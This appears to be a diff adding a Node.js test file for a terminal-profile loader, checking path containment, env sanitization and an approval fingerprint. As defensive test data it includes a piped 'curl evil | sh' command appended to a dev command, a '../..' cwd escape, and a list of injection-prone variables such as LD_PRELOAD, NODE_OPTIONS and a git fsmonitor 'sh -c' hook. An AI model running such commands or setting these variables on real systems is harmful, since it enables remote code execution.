@@ -0,0 +1,121 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+const terminalProfiles = require('../src/main/terminalProfiles');
+
+const projectDir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'vibe-profile-test-')));
+fs.mkdirSync(path.join(projectDir, 'web'));
+
+function writeProfile(data) {
+  const filePath = terminalProfiles.getProfilePath(projectDir);
+  fs.mkdirSync(path.dirname(filePath), { recursive: true });
+  fs.writeFileSync(filePath, JSON.stringify(data), 'utf8');
+}
+
+test.after(() => {
+  fs.rmSync(projectDir, { recursive: true, force: true });
+});
+
+test('loadProfile returns null when the project has no profile', () => {
+  assert.equal(terminalProfiles.loadProfile(projectDir), null);
+  assert.equal(terminalProfiles.loadProfile('relative/path'), null);
+});
+
+test('loadProfile resolves cwd inside the project and drops invalid entries', () => {
+  writeProfile({
+    terminals: [
+      { name: 'agent', command: 'claude\n' },
+      { name: 'dev server', shell: 'zsh', cwd: 'web', env: { PORT: 3000, 'BAD-KEY': 'x', OBJ: {} }, command: 'npm run dev' },
+      { name: 'escape', cwd: '../..' },
+      { cwd: 'web' },
+      'not an object'
+    ]
+  });
+
+  const profile = terminalProfiles.loadProfile(projectDir);
+  assert.deepEqual(profile.terminals, [
+    { name: 'agent', shell: null, cwd: projectDir, env: null, command: 'claude' },
+    { name: 'dev server', shell: 'zsh', cwd: path.join(projectDir, 'web'), env: { PORT: '3000' }, command: 'npm run dev' },
+    { name: 'escape', shell: null, cwd: projectDir, env: null, command: null }
+  ]);
+});
+
+test('loadProfile throws on malformed JSON', () => {
+  fs.writeFileSync(terminalProfiles.getProfilePath(projectDir), '{ nope', 'utf8');
+  assert.throws(() => terminalProfiles.loadProfile(projectDir));
+});
+
+test('saveProfile keeps cwd, env and command of terminals with matching names', () => {
+  writeProfile({
+    terminals: [
+      { name: 'dev server', cwd: 'web', env: { PORT: '3000' }, command: 'npm run dev' },
+      { name: 'old', command: 'removed' }
+    ]
+  });
+
+  terminalProfiles.saveProfile(projectDir, [
+    { name: 'agent', shell: '/bin/zsh' },
+    { name: 'dev server', shell: null }
+  ]);
+
+  const saved = JSON.parse(fs.readFileSync(terminalProfiles.getProfilePath(projectDir), 'utf8'));
+  assert.deepEqual(saved.terminals, [
+    { name: 'agent', shell: '/bin/zsh' },
+    { name: 'dev server', cwd: 'web', env: { PORT: '3000' }, command: 'npm run dev' }
+  ]);
+});
+
+test('saveProfile rejects missing projects and empty terminal lists', () => {
+  assert.throws(() => terminalProfiles.saveProfile(path.join(projectDir, 'missing'), [{ name: 'a' }]), /Invalid project path/);
+  assert.throws(() => terminalProfiles.saveProfile(projectDir, []), /No terminals to save/);
+  assert.throws(() => terminalProfiles.saveProfile(projectDir, [{ name: '  ' }]), /No terminals to save/);
+});
+
+test('sanitizeEnv keeps portable names with scalar values', () => {
+  assert.deepEqual(terminalProfiles.sanitizeEnv({ A_1: 'x', _B: true, '1X': 'no', C: 'a\0b' }), { A_1: 'x', _B: 'true' });
+  assert.equal(terminalProfiles.sanitizeEnv(['A']), null);
+  assert.equal(terminalProfiles.sanitizeEnv({}), null);
+});
+
+test('sanitizeEnv drops loader and shell startup hooks', () => {
+  const env = terminalProfiles.sanitizeEnv({
+    LD_PRELOAD: '/tmp/x.so', DYLD_INSERT_LIBRARIES: '/tmp/x.dylib', NODE_OPTIONS: '--require ./x.js',
+    BASH_ENV: './x.sh', ENV: './x.sh', PROMPT_COMMAND: 'x', ZDOTDIR: '.', node_options: '-r x', PORT: '3000'
+  });
+  assert.deepEqual(env, { PORT: '3000' });
+  assert.equal(terminalProfiles.isAllowedEnvKey('LD_LIBRARY_PATH'), false);
+  assert.equal(terminalProfiles.isAllowedEnvKey('ENVIRONMENT'), true);
+});
+
+test('sanitizeEnv drops git config injection, pagers, editors and interpreter paths', () => {
+  const env = terminalProfiles.sanitizeEnv({
+    GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.fsmonitor', GIT_CONFIG_VALUE_0: 'sh -c x', GIT_SSH_COMMAND: 'x',
+    GIT_PAGER: 'x', PAGER: 'x', LESSOPEN: '|x %s', EDITOR: 'x', PS1: '$(x)', PYTHONPATH: '.', NODE_PATH: '.', HOST: 'localhost'
+  });
+  assert.deepEqual(env, { HOST: 'localhost' });
+});
+
+test('the profile fingerprint changes with the commands and env only', () => {
+  writeProfile({ terminals: [{ name: 'dev', command: 'npm run dev' }, { name: 'shell' }] });
+  const { fingerprint } = terminalProfiles.loadProfile(projectDir);
+  assert.match(fingerprint, /^[0-9a-f]{64}$/);
+
+  writeProfile({ terminals: [{ name: 'renamed', cwd: 'web', command: 'npm run dev' }, { name: 'shell' }] });
+  assert.equal(terminalProfiles.loadProfile(projectDir).fingerprint, fingerprint);
+
+  writeProfile({ terminals: [{ name: 'dev', command: 'npm run dev; curl evil | sh' }, { name: 'shell' }] });
+  assert.notEqual(terminalProfiles.loadProfile(projectDir).fingerprint, fingerprint);
+
+  writeProfile({ terminals: [{ name: 'dev', command: 'npm run dev' }, { name: 'shell', env: { PORT: '3000' } }] });
+  assert.notEqual(terminalProfiles.loadProfile(projectDir).fingerprint, fingerprint);
+
+  // Env alone needs approval too
+  writeProfile({ terminals: [{ name: 'shell', env: { PORT: '3000' } }] });
+  assert.match(terminalProfiles.loadProfile(projectDir).fingerprint, /^[0-9a-f]{64}$/);
+
+  writeProfile({ terminals: [{ name: 'shell' }] });
+  assert.equal(terminalProfiles.loadProfile(projectDir).fingerprint, null);
+});